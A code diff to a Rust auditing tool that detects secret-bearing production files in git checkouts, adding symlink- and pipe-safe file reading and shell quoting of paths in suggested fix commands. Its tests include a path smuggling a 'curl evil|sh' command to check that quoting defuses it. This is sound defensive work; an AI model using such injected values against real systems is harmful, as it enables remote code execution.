@@ -2,8 +2,10 @@
 
 use std::collections::BTreeSet;
 use std::fs::{self, File};
-use std::io::BufReader;
+use std::io::{BufReader, Read};
 use std::path::{Path, PathBuf};
+
+use rustix::fs::{CWD, Mode, OFlags};
 
 use super::sites::Sites;
 use super::{Notes, Severity};
@@ -81,11 +83,9 @@ fn in_archive(site: &str, file: &Path, notes: &mut Notes) {
 }
 
 fn in_checkout(checkout: &Path, notes: &mut Notes) {
-    let index = checkout.join(".git/index");
-    let index =
-        fs::metadata(&index).ok().filter(|meta| meta.len() <= LARGEST_INDEX).and_then(|_| fs::read(&index).ok());
-    let index = index.unwrap_or_default();
-    let ignored = fs::read_to_string(checkout.join(".gitignore")).unwrap_or_default();
+    let index = content(&checkout.join(".git/index"), LARGEST_INDEX).unwrap_or_default();
+    let ignored = content(&checkout.join(".gitignore"), LARGEST).unwrap_or_default();
+    let ignored = String::from_utf8_lossy(&ignored);
     walk(checkout, &mut |file, inside| {
         if inside.starts_with(".git/") {
             return;
@@ -107,11 +107,12 @@ fn in_checkout(checkout: &Path, notes: &mut Notes) {
         };
         let fix = if tracked {
             format!(
-                "git -C {} rm --cached {inside}, move it outside, add it to .gitignore, and change the passwords in it",
-                checkout.display()
+                "git -C {} rm --cached {}, move it outside, add it to .gitignore, and change the passwords in it",
+                quoted(checkout),
+                quoted(Path::new(inside))
             )
         } else {
-            format!("mv {} /etc/<site>/ and name it in spec.target.host.configFiles", file.display())
+            format!("mv {} /etc/<site>/ and name it in spec.target.host.configFiles", quoted(file))
         };
         notes.find(severity, "ProductionFileInGit", format!("{what} {how}"), file.display().to_string(), fix);
     });
@@ -125,8 +126,8 @@ fn production(file: &Path) -> Option<&'static str> {
     let name = file.file_name()?.to_str()?;
     let python = name.ends_with(".py")
         && ["settings", "production", "local_settings", "prod"].iter().any(|word| name.contains(word));
-    if python && fs::metadata(file).is_ok_and(|meta| meta.len() <= LARGEST) {
-        let text = fs::read_to_string(file).unwrap_or_default();
+    if python && let Some(text) = content(file, LARGEST) {
+        let text = String::from_utf8_lossy(&text);
         let literal = |line: &str| {
             line.trim_start()
                 .strip_prefix("SECRET_KEY")
@@ -167,6 +168,30 @@ fn names(file: &Path) -> Option<Vec<String>> {
     Some(archive.file_names().filter_map(|name| Some(name.ok()?.into_owned())).collect())
 }
 
+/// What a file of somebody's holds, if it is no larger. Whoever may write there may have put a link or a pipe in its place.
+fn content(file: &Path, most: u64) -> Option<Vec<u8>> {
+    let flags = OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY | OFlags::CLOEXEC;
+    let file = File::from(rustix::fs::openat(CWD, file, flags, Mode::empty()).ok()?);
+    let found = file.metadata().ok()?;
+    let mut content = Vec::new();
+    (found.is_file() && found.len() <= most).then_some(())?;
+    file.take(most).read_to_end(&mut content).ok()?;
+    Some(content)
+}
+
+/// A path as a shell takes it for one word. What somebody called a folder is pasted by root.
+fn quoted(path: &Path) -> String {
+    let path = path.to_string_lossy();
+    let plain = |letter: char| letter.is_ascii_alphanumeric() || "/._-+@:,=%".contains(letter);
+    if path.chars().any(char::is_control) {
+        "'<the file that is named above>'".to_owned()
+    } else if path.chars().all(plain) {
+        path.into_owned()
+    } else {
+        format!("'{}'", path.replace('\'', r"'\''"))
+    }
+}
+
 /// Whether the index of a checkout names this path. Each of its entries ends with the path and a NUL; what stands before differs by version.
 fn is_tracked(index: &[u8], path: &str) -> bool {
     let wanted = [path.as_bytes(), b"\0"].concat();
@@ -174,7 +199,7 @@ fn is_tracked(index: &[u8], path: &str) -> bool {
 }
 
 fn find_checkouts(folder: &Path, depth: u32, found: &mut BTreeSet<PathBuf>) {
-    if folder.join(".git").is_dir() {
+    if folder.join(".git").symlink_metadata().is_ok_and(|found| found.is_dir()) {
         found.insert(folder.to_owned());
     }
     if depth == 0 {
@@ -231,6 +256,34 @@ mod tests {
             (".envrc", false),
         ] {
             assert_eq!(is_production_name(Path::new(name)), is, "{name}");
+        }
+    }
+
+    #[test]
+    fn what_somebody_called_a_folder_is_one_word_to_a_shell() {
+        for (path, word) in [
+            ("/srv/shop/.env", "/srv/shop/.env"),
+            ("/home/m/a b", "'/home/m/a b'"),
+            ("/home/m/a;curl evil|sh;#/.env", "'/home/m/a;curl evil|sh;#/.env'"),
+            ("/home/m/it's", r"'/home/m/it'\''s'"),
+            ("/home/m/\u{1b}[2J", "'<the file that is named above>'"),
+        ] {
+            assert_eq!(quoted(Path::new(path)), word, "{path}");
+        }
+    }
+
+    #[test]
+    fn a_link_or_a_pipe_of_somebody_is_not_read() {
+        let folder = tempfile::tempdir().expect("a temporary folder");
+        let at = |name: &str| folder.path().join(name);
+        fs::write(at("plain"), "x").expect("written");
+        std::os::unix::fs::symlink("/dev/zero", at("zero")).expect("a link");
+        std::os::unix::fs::symlink(at("plain"), at("link")).expect("a link");
+        rustix::fs::mknodat(CWD, at("pipe"), rustix::fs::FileType::Fifo, Mode::RWXU, 0).expect("a pipe");
+        assert_eq!(content(&at("plain"), 10).as_deref(), Some(b"x".as_slice()));
+        assert_eq!(content(&at("plain"), 0), None, "too large");
+        for name in ["zero", "link", "pipe", "none"] {
+            assert_eq!(content(&at(name), 10), None, "{name}");
         }
     }
 
